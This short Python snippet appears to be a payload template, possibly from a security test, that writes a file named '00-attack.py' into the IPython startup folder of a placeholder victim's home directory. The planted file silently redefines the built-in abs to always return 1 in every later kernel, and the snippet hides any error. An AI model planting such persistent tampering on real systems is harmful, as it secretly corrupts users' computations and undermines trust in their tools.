"""Leave a start-up file of IPython's that patches every later kernel."""

FIRST = """
import os

try:
    _folder = "{{VICTIM}}/home/.ipython/profile_default/startup"
    os.makedirs(_folder, exist_ok=True)
    with open(_folder + "/00-attack.py", "w") as _file:
        _file.write("import builtins\\nbuiltins.abs = lambda value: 1\\n")
except OSError:
    pass
"""
